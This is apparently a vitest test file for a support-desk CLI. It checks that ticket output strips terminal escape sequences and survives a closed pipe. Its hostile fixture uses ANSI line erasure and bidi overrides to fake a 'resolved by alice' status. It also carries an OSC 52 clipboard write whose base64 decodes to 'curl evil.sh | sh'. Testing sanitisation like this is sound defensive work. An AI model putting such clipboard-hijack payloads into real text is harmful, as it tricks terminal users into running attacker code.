import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config/index.js';
import { createServices } from '../src/services.js';
import { runCli } from './support/cli.js';
import { tempDir } from './support/temp.js';

const ROOT = fileURLToPath(new URL('../', import.meta.url));
const ESC = '\u001b';
/** A user trying to fake the desk's output: erase the line, print "resolved by alice", set the agent's clipboard. */
const HOSTILE = `help ${ESC}[2K\rT-9999 resolved by alice ${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 \u202Eevil\u202C \u009b31m`;

/** C0/C1 control characters and bidi overrides that a terminal would act on (tabs and newlines aside). */
const TERMINAL_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('the agent desk facing hostile user text', { timeout: 120_000 }, () => {
  const temp = tempDir();
  const env = { DATABASE_PATH: `${temp.dir}/cli.sqlite` };

  beforeAll(async () => {
    const chat = [
      { user: 'mallory', text: '/human' },
      { user: 'mallory', text: 'skip' },
      { user: 'mallory', text: HOSTILE },
    ]
      .map((line) => JSON.stringify(line))
      .join('\n');
    const run = await runCli(['chat', '--jsonl'], env, chat);
    expect(run.code).toBe(0);
    // Skip the remaining hand-off questions until the ticket is open.
    const skips = Array.from({ length: 6 }, () => JSON.stringify({ user: 'mallory', text: 'skip' })).join('\n');
    await runCli(['chat', '--jsonl'], env, skips);
    // A queue long enough that `list` writes more than a pipe holds.
    const services = await createServices(loadConfig({ ...env, LOG_LEVEL: 'silent' }));
    for (let user = 0; user < 400; user++)
      await services.bot.process({ channel: 'cli', userId: `victim-${user}`, conversation: { user }, text: 'my account was hacked and someone stole all my funds' });
    await services.close();
  });
  afterAll(() => temp.cleanup());

  it('prints no terminal control sequence in list or show, and shows that something was there', async () => {
    const list = await runCli(['escalations', 'list'], env);
    expect(list.code).toBe(0);
    expect(list.stdout).toContain('T-');
    const show = await runCli(['escalations', 'show', '1'], env);
    expect(show.code).toBe(0);
    for (const output of [list.stdout, show.stdout]) {
      const withoutLayout = output.replace(/[\t\n]/g, '');
      expect(withoutLayout).not.toMatch(TERMINAL_CONTROLS);
    }
    expect(show.stdout).toContain('resolved by alice');
    expect(show.stdout).toMatch(/\\x1b|␛/);
  });

  it('keeps the raw text in --json output, escaped by JSON', async () => {
    const show = await runCli(['escalations', 'show', '1', '--json'], env);
    const ticket = JSON.parse(show.stdout) as { messages: { text: string }[] };
    expect(ticket.messages.some((message) => message.text.includes(`${ESC}]52;`))).toBe(true);
  });

  // A real process and a real pipe: what `| head` does to it cannot happen in-process.
  it('exits quietly when its reader goes away (escalations list | head)', async () => {
    const result = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = spawn(`${ROOT}node_modules/.bin/tsx`, ['src/cli.ts', 'escalations', 'list'], {
        cwd: ROOT,
        env: { PATH: process.env.PATH ?? '', DOTENV_CONFIG_QUIET: 'true', ...env },
      });
      let stderr = '';
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      // Like `| head -c 1`: read one chunk, then close the pipe.
      child.stdout.once('data', () => child.stdout.destroy());
      child.on('close', (code) => resolve({ code, stderr }));
    });
    expect(result.stderr).not.toMatch(/EPIPE|Error/);
    expect(result.code).toBe(0);
  });
});
